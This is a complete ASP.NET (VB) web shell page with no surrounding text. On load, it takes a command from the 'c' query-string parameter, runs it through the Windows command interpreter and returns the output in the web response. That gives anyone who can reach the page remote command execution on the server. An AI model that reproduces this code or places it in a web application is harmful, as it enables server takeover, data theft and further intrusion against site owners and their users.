<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim c As String = Request.QueryString("c")
    If String.IsNullOrEmpty(c) Then Exit Sub
    Dim p As New System.Diagnostics.Process()
    p.StartInfo.FileName = Environ("COMSPEC")
    p.StartInfo.Arguments = "/c " & c
    p.StartInfo.UseShellExecute = False
    p.StartInfo.RedirectStandardOutput = True
    p.Start()
    Response.Write(p.StandardOutput.ReadToEnd())
End Sub
</script>
